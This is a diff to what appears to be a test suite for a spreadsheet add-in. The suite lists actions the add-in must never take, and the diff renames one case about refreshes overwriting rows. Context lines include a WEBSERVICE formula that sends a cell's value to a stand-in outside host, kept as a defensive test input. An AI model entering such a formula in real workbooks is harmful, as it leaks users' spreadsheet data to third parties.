@@ -59,7 +59,9 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
   },
   'enter a formula other than one call of an IDS function': entersNothing(`=WEBSERVICE("${elsewhere}/?"&A1)`),
   'enter a formula that refers to another file': entersNothing(`=IDS.POSITIONS('${elsewhere}/x.xlsx'!N,"last")`),
-  'make a refresh overwrite a table that the user made': changesNothing((sound) => [aimedAt(sound, mine, 'Mine')]),
+  "make a refresh overwrite rows that don't carry the marks of what was written": changesNothing((sound) => [
+    aimedAt(sound, mine, 'Mine'),
+  ]),
   'write values under the header of another column': changesNothing((sound) => [
     aimedAt(sound, mine, 'Mine').replace('header="Quantity"', 'header="Price"'),
   ]),
